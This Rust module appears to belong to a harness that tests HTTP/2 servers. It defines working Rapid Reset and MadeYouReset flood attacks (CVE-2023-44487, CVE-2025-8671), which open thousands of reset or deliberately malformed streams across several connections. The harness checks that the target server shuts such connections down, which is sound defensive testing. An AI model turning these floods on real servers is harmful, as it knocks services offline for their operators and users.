//! Streams reset by the client (CVE-2023-44487), or by the server (CVE-2025-8671).
//!
//! A reset stream no longer counts against the limit of streams, but its request may still be handled. Each client below
//! opens thousands of them on a connection. The server must end it long before that.

use super::end::End;
use super::http2::{
    CALM, CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS, PRIORITY, PROTOCOL_ERROR, RST_STREAM,
    RawConnection, Reading, Requests, WINDOW_UPDATE, frame, literal, streams,
};
use super::victim::{Attack, Attacking, Victim};
use std::sync::Arc;

const CONNECTIONS: usize = 8;
/// Streams of one attack.
const STREAMS: usize = 20_000;
/// Streams in one write.
const BATCH: usize = 20;
/// ENHANCE_YOUR_CALM, or an error of the connection.
const ENDED: &[End] =
    &[End::Closed, CALM, PROTOCOL_ERROR, End::Code(3), End::Code(5), End::Code(6), End::Code(9)];
const WHOLE: u8 = END_HEADERS | END_STREAM;

const RESETS: Attack = Attack { ends: ENDED, ..Attack::USUAL };

/// The attacks.
pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        about: "requests that are reset at once (CVE-2023-44487)",
        run: |victim| {
            reset(victim, |requests, stream| {
                let head = frame(HEADERS, END_HEADERS, stream, &requests.block("POST", "/subscribe"));
                [head, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "rapid-reset-whole",
        about: "the same with requests that are complete",
        run: |victim| {
            reset(victim, |requests, stream| {
                let head = frame(HEADERS, WHOLE, stream, &requests.block("POST", "/subscribe"));
                [head, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "made-you-reset-overflow",
        about: "a window that overflows (CVE-2025-8671)",
        run: |victim| {
            reset(victim, |requests, stream| {
                let head = frame(HEADERS, WHOLE, stream, &requests.block("GET", "/errors"));
                [head, frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "made-you-reset-zero",
        about: "a window that grows by nothing",
        run: |victim| {
            reset(victim, |requests, stream| {
                let head = frame(HEADERS, WHOLE, stream, &requests.block("GET", "/errors"));
                [head, frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "made-you-reset-data",
        about: "DATA after the end of the request",
        run: |victim| {
            reset(victim, |requests, stream| {
                let head = frame(HEADERS, WHOLE, stream, &requests.block("GET", "/errors"));
                [head, frame(DATA, 0, stream, b"more")].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "made-you-reset-headers",
        about: "HEADERS after the end of the request",
        run: |victim| {
            reset(victim, |requests, stream| {
                let head = frame(HEADERS, WHOLE, stream, &requests.block("GET", "/errors"));
                [head.clone(), head].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "made-you-reset-priority",
        about: "a PRIORITY frame of the wrong length",
        run: |victim| {
            reset(victim, |requests, stream| {
                let head = frame(HEADERS, WHOLE, stream, &requests.block("GET", "/errors"));
                [head, frame(PRIORITY, 0, stream, &[0; 3])].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "made-you-reset-depends",
        about: "a stream that depends on itself",
        run: |victim| {
            reset(victim, |requests, stream| {
                let head = frame(HEADERS, WHOLE, stream, &requests.block("GET", "/errors"));
                let priority = [&stream.to_be_bytes()[..], &[16]].concat();
                [head, frame(PRIORITY, 0, stream, &priority)].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "made-you-reset-length",
        about: "a body that is longer than its Content-Length",
        run: |victim| {
            reset(victim, |requests, stream| {
                let request =
                    [requests.block("POST", "/subscribe"), literal(0, "content-length", "1")].concat();
                let head = frame(HEADERS, END_HEADERS, stream, &request);
                [head, frame(DATA, END_STREAM, stream, b"longer")].concat()
            })
        },
        ..RESETS
    },
    Attack {
        name: "made-you-reset-malformed",
        about: "requests with a field that HTTP/2 forbids",
        run: |victim| {
            reset(victim, |requests, stream| {
                let request = [requests.block("GET", "/"), literal(0, "connection", "close")].concat();
                frame(HEADERS, WHOLE, stream, &request)
            })
        },
        ..RESETS
    },
];

/// Sends these bytes for each stream, on [`CONNECTIONS`].
fn reset(victim: Arc<Victim>, bytes: fn(&Requests, u32) -> Vec<u8>) -> Attacking {
    Box::pin(victim.repeat(CONNECTIONS, move |victim, _| async move {
        let connection = RawConnection::connect(&victim.dialer, &[]).await?;
        let (requests, mut streams) = (connection.requests(), streams().take(STREAMS));
        let chunks = std::iter::from_fn(move || {
            let batch: Vec<u8> =
                streams.by_ref().take(BATCH).flat_map(|stream| bytes(&requests, stream)).collect();
            (!batch.is_empty()).then_some(batch)
        });
        Ok(connection.flood(chunks, Reading::Yes).await)
    }))
}
